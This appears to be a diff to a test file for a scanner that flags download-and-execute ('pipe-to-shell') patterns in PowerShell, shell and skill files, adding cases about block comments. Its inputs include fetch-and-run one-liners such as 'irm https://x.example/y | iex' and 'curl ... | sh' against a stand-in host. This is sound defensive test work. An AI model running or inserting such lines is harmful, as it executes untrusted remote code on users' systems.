@@ -64,6 +64,24 @@ describe("pipe-to-shell: a command after a PowerShell block comment on its line"
     expect(flagged("p/s/run.ps1", "$s = irm https://x.example/y.ps1\n<# note #> iex $s\n")).toEqual([1]);
   });
 
+  it("leaves alone a download inside a block comment on a line with another download outside it", () => {
+    for (const text of [
+      "<# irm https://x.example/y | iex #> iwr https://x.example/z -OutFile f\n",
+      "<#irm https://x.example/y|iex#> iwr https://x.example/z -OutFile f\n",
+      "<# notes\nirm https://x.example/y | iex #> iwr https://x.example/z -OutFile f\n",
+      "iwr https://x.example/z -OutFile f <# irm https://x.example/y | iex\n#>\n",
+    ]) {
+      expect(flagged("p/s/run.ps1", text), text).toEqual([]);
+      expect(flagged("p/s/SKILL.md", fenced("powershell", text)), text).toEqual([]);
+    }
+  });
+
+  it("still reads the line's downloads where a <# is never closed", () => {
+    expect(
+      flagged("p/s/run.ps1", "iwr https://x.example/z -OutFile f <# irm https://x.example/y | iex\n"),
+    ).toEqual([1]);
+  });
+
   it("still reads a # after it as a comment, and #> in a shell as one", () => {
     expect(flagged("p/s/run.ps1", "$s = irm https://x.example/y.ps1\n<# a #> # iex $s\n")).toEqual([]);
     expect(flagged("p/s/run.sh", "curl -fsSL https://x.example/y #> | sh\n")).toEqual([]);
